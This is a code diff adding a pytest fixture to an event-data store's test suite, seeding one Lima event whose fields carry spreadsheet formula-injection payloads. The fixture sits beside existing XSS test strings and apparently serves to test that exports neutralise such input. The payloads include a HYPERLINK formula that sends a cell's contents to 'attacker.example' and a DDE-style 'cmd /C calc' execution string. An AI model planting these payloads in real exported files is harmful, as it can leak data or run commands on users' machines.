@@ -23,6 +23,18 @@ from observatory.store import Store
 XSS_SCRIPT = "<script>window.__xss=1</script>"
 XSS_IMG = '<img src=x onerror="window.__xss=2">'
 
+# A report whose text fields start with what spreadsheets run as formulas, placed south and west of 0/0.
+FORMULA_TEXT = "-2 dead. Police said =HYPERLINK gunmen killed two people in Lima on Monday."
+FORMULA_CELLS = {
+    "source": '=HYPERLINK("http://attacker.example/?leak="&A1,"Reuters")',
+    "notes": FORMULA_TEXT,
+    "actor1": "+Unidentified Armed Group",
+    "actor2": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "location": "\tLima",
+    "admin1": "\rLima",
+    "claimant": "=1+1",
+}
+
 SYRIA = (
     "IDLIB, Syria - Syrian government forces shelled villages near Idlib on Monday, killing four civilians, "
     "local medics said. A day later, Hayat Tahrir al-Sham fighters attacked an army post outside Saraqib "
@@ -307,4 +319,29 @@ def sample_db(tmp_path: Path) -> Path:
     path = tmp_path / "sample.duckdb"
     with Store(path) as store:
         store.add_batch(sample_batch())
+    return path
+
+
+@pytest.fixture
+def formula_db(tmp_path: Path) -> Path:
+    """A store with one event whose text cells all start with a formula trigger."""
+    cells = FORMULA_CELLS
+    lima = place(cells["location"], -12.05, -77.04, "PER", cells["admin1"])
+    found = event(
+        FORMULA_TEXT,
+        FORMULA_TEXT,
+        plover_type="ASSAULT",
+        acled_event_type="Violence against civilians",
+        acled_sub_event_type="Attack",
+        actors=[actor(cells["actor1"], 3, "PER")],
+        recipients=[actor(cells["actor2"], 7, "PER")],
+        location=lima,
+        day=dt.date(2024, 7, 1),
+        fatalities=2,
+        attribution=Attribution(claimant=cells["claimant"], text="police said"),
+    )
+    doc = Document(id="lima", text=FORMULA_TEXT, source=cells["source"], published=dt.date(2024, 7, 2))
+    path = tmp_path / "formula.duckdb"
+    with Store(path) as store:
+        store.add_batch([(doc, DocumentResult(id=doc.id, events=[found]))])
     return path
